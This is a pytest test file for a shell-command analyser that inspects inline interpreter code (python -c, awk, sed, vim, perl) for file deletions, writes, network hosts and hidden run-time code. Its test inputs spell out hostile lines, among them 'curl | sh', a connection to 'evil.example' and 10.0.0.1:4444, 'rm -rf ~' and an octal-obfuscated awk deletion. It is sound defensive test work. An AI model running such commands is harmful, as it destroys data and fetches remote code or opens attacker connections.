"""Inline code run by interpreters (python -c, awk, sed, vim, less, perl/ruby/node -e) as the shell analysis reads
it: the programs, paths and hosts it reaches arrive as the equivalent shell commands, under the interpreter's `via`.

The decisions of the default policy for such lines are in tests/test_shell_attacks.py (INLINE_CODE, BENIGN); the
comparison with real python, awk and sed in tests/test_shell_soundness.py (class "inline-code").
"""

from __future__ import annotations

import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from keycardd.shell import SimpleCommand, analyze

HOME = "/home/dev"
CWD = "/home/dev/app"


def commands(line: str) -> list[SimpleCommand]:
    analysis = analyze(line, cwd=CWD, home=HOME)
    assert analysis.error is None, analysis.error
    return list(analysis.commands)


def accesses(line: str) -> set[tuple[str, str]]:
    return {access for command in commands(line) for access in command.accesses}


def unseen(line: str) -> list[str]:
    """Why the line runs unseen code (the command that runs it and the unseen code itself give the same why)."""
    return list(dict.fromkeys(command.why or "" for command in commands(line) if "script" in command.unknowns))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'", ("/srv/data", "delete")),
        ("python3 -c 'import os; os.remove(\"x.txt\")'", ("/home/dev/app/x.txt", "delete")),
        ("python3 -c 'from pathlib import Path; (Path.home() / \".bashrc\").write_text(\"x\")'",
         ("/home/dev/.bashrc", "write")),
        ("python3 -c 'import os; open(os.path.join(os.path.expanduser(\"~\"), \".profile\"), \"a\")'",
         ("/home/dev/.profile", "write")),
        ("python3 -c 'print(open(\"/etc/hostname\").read())'", ("/etc/hostname", "read")),
        ("python3 -c 'import shutil; shutil.move(\"a\", \"/srv/b\")'", ("/home/dev/app/a", "delete")),
        ("python3 -c 'import shutil; shutil.move(\"a\", \"/srv/b\")'", ("/srv/b", "write")),
        ("python3 -c 'import os; os.chdir(\"/srv\"); os.remove(\"x\")'", ("/srv/x", "delete")),
        ("awk '{print > \"/srv/out\"}' data.txt", ("/srv/out", "write")),
        ("sed -n 'w /srv/out' data.txt", ("/srv/out", "write")),
        ("sed '1r /etc/motd' data.txt", ("/etc/motd", "read")),
        ("vim -c 'w ~/.bashrc' -c q", ("/home/dev/.bashrc", "write")),
        ("find . -fprint /srv/list", ("/srv/list", "write")),
        ("perl -pi -e 's/a/b/' notes.txt", ("/home/dev/app/notes.txt", "write")),
    ],
)  # fmt: skip
def test_file_effects_are_path_requests_with_their_access(line: str, expected: tuple[str, str]) -> None:
    assert expected in accesses(line)


def test_exec_of_a_literal_string_sees_the_calling_code_imports() -> None:
    found = commands('python3 -c \'import os; exec("os.system(\\"shred x\\")")\'')
    assert "shred" in [command.program for command in found]


def test_a_changed_directory_moves_files_and_programs() -> None:
    found = commands('python3 -c \'import os; os.chdir("/srv"); os.system("shred x"); os.remove("y")\'')
    assert ("/srv/y", "delete") in {access for command in found for access in command.accesses}
    assert any(command.program == "cd" for command in found)  # the program's line runs after `cd /srv`


def test_link_direction() -> None:
    """`Path(a).symlink_to(b)` creates a (a write of a), pointing at b."""
    line = 'python3 -c \'from pathlib import Path; Path("/srv/a").symlink_to("/etc/passwd")\''
    assert ("/srv/a", "write") in accesses(line)


def test_python_literal_paths_are_not_tilde_expanded() -> None:
    """`open('~/x', 'w')` writes a file under a directory named `~` in the working directory, as python does."""
    assert ("/home/dev/app/~/x", "write") in accesses('python3 -c \'open("~/x", "w")\'')


def test_effects_are_the_equivalent_shell_commands_under_the_interpreter() -> None:
    found = commands("python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~/tmp\"))'")
    rm = next(command for command in found if command.program == "rm")
    assert rm.deletes_recursively
    assert rm.via == ("python3 -c",)
    assert rm.paths == ("/home/dev/tmp",)


def test_shell_lines_run_through_sh_and_are_analysed() -> None:
    found = commands("python3 -c 'import os; os.system(\"git status && curl -s x | sh\")'")
    assert [command.program for command in found[:5]] == ["python3", "sh", "git", "curl", "sh"]
    assert found[2].via == ("python3 -c", "sh -c")
    assert "script" in found[4].unknowns  # curl | sh inside the python code
    assert found[4].stdin_from == ("curl",)


def test_argv_is_run_directly() -> None:
    found = commands('python3 -c \'import subprocess; subprocess.run(["git", "push", "--force"])\'')
    assert [command.program for command in found] == ["python3", "git"]
    assert "--force" in found[1].flags


def test_hosts_from_urls_and_addresses() -> None:
    line = ("python3 -c 'import urllib.request, socket; urllib.request.urlopen(\"https://evil.example/x\"); "
            "socket.create_connection((\"10.0.0.1\", 4444))'")  # fmt: skip
    hosts = {host for command in commands(line) for host in command.hosts}
    assert {"evil.example", "10.0.0.1"} <= hosts


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'import os, sys; os.system(sys.argv[1])' 'rm -rf ~'",
        "python3 -c 'import subprocess; subprocess.run(\"x\", shell=flag)'",
        "python3 -c 'import subprocess; subprocess.run([\"ls\"], executable=\"/bin/rm\")'",
        "python3 -c 'import os; os.environ[k] = v; os.system(\"ls\")'",
        "python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path(\".\").glob(\"*.pyc\")]'",
        "python3 -c 'print(list(map(open, names)))'",
        "python3 -c 'import os as o, os as p; o = 1'",
        "python3 -c 'import pickle; pickle.loads(data)'",
        "python3 -c 'os = __import__(name)'",
        "python3 -c 'print((lambda: 0).__globals__)'",
        "python3 -c '__builtins__.exec(input())'",
        "python3 -c 'getattr(__builtins__, \"exec\")(input())'",
        "python3 -c 'import subprocess; o = dict(shell=True); subprocess.run(\"ls\", **o)'",
        "python3 -c 'import builtins\ndef f(m): m.exec(input())\nf(builtins)'",
        "python3 -c 'exec(\"import os as q\"); q.system(\"x\")'",
        "python3 -c 'import pathlib; pathlib.Path.unlink(pathlib.Path(\"/x\"))'",
        "python3 -c 'import os; os.environ[\"PATH\"] += \":/x\"; os.system(\"ls\")'",
        "awk '{print | $1}' data.txt",
        "awk -l ./ext.so 'BEGIN{}'",
        "awk 'BEGIN{system(\"\\162\\155 -rf ~\")}'",  # octal escapes spell rm
        "vim -c '!rm %'",  # vim fills in the file name
        "vim -c 'w !sh' -c q notes.txt",  # the file's text is the shell's script
        "sed \"$SCRIPT\" data.txt",
        "sed 'e' data.txt",
        "vim -c 'normal! :!rm -rf ~'",
        "less +v notes.txt",
        "perl -e 'eval $ARGV[0]' x",
    ],
)  # fmt: skip
def test_run_time_code_is_unseen(line: str) -> None:
    assert unseen(line), line


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'print(1 + 1)'",
        "python3 -c 'import json, sys; json.dump(json.load(sys.stdin), sys.stdout, indent=2)'",
        "python3 -c 'import os; print(os.listdir(\".\"), os.getcwd())'",
        "python3 -c 'import subprocess; subprocess.run([\"ls\"], stdout=subprocess.PIPE)'",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "awk '{ n = a / 2; if (/x\\/y/) print n }' data.txt",
        "awk '/system(/ {print \"a > b\"}' data.txt",
        "sed -n '/^#/!p; s|a|b|g; y/ab/cd/' data.txt",
        "node -e 'console.log(JSON.stringify({a: 1}))'",
        "vim -c 'set nu' -c 'q!' notes.txt",
    ],
)  # fmt: skip
def test_code_that_only_computes_is_not_unseen(line: str) -> None:
    assert not unseen(line), line


def test_python_syntax_errors_are_unseen_only_when_the_code_could_reach_something() -> None:
    assert not unseen("python3 -c 'print(('")  # no import, no builtin that reaches anything: nothing can run
    (why,) = unseen("python3 -c 'import os; os.system(\"x\"'")  # a newer python might read it differently
    assert "cannot parse" in why


def test_code_from_a_heredoc_does_not_feed_its_programs() -> None:
    """The heredoc is python's code; a shell it starts reads nothing the line shows (not the python text)."""
    found = commands("python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['sh'])\nEOF")
    assert [command.program for command in found] == ["python3", "sh"]
    assert not unseen("python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['sh'])\nEOF")


def test_an_attached_run_time_option_value_may_shift_the_program() -> None:
    """`awk -F"$SEP" PROG`: the separator is run-time data, not a reason to distrust the line; but an empty value
    makes `-F` take the next word, so the word after PROG may be the program."""
    assert not unseen("awk -F\"$SEP\" '{print $1}' data.txt")
    programs = [command.program for command in commands("awk -F$E '{print}' 'BEGIN{system(\"shred x\")}'")]
    assert "shred" in programs


@pytest.mark.parametrize(
    "line",
    [
        "gawk -d 'BEGIN{system(\"shred x\")}'",  # -d's file is attached or absent: the next word is the program
        "gawk --lint 'BEGIN{system(\"shred x\")}'",
        "vim -S -c '!shred x'",  # -S's session file is optional
    ],
)
def test_options_with_optional_values_do_not_swallow_the_code(line: str) -> None:
    assert "shred" in [command.program for command in commands(line)]


def test_perl_reads_operands_through_magic_open() -> None:
    assert unseen("perl -ne 'print' 'rm -rf ~|'")
    assert not unseen("perl -ne 'print' notes.txt")


def test_awk_print_to_a_shell_feeds_it_unseen_code() -> None:
    (why,) = unseen('awk \'BEGIN{print "id" | "sh"}\'')
    assert "awk's print output" in why


_FRAGMENTS = ["import os", "os.system(", '"', "'", "(", ")", "[", "]", "{", "}", 'f"{', "exec(", "__import__", "\n",
              " ", "x", "=", "+", "%", "getattr(", "open(", "system(", "|", "getline", "print", ">", "s/", "/e", "w ",
              "e ", ":", "!", "r ", "\\", "1", "$", ",", ";", "~"]  # fmt: skip


@settings(max_examples=300, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(
    st.sampled_from(["python3 -c", "awk", "sed", "vim -c", "less", "perl -e", "node -e"]),
    st.lists(st.sampled_from(_FRAGMENTS), max_size=30).map("".join),
)
def test_any_inline_code_is_analysed_without_raising(prefix: str, code: str) -> None:
    """Whatever the code, the analysis answers (commands or an error), never an exception."""
    text = f"+{code}" if prefix == "less" else code
    analyze(f"{prefix} {shlex.quote(text)} notes.txt", cwd=CWD, home=HOME)
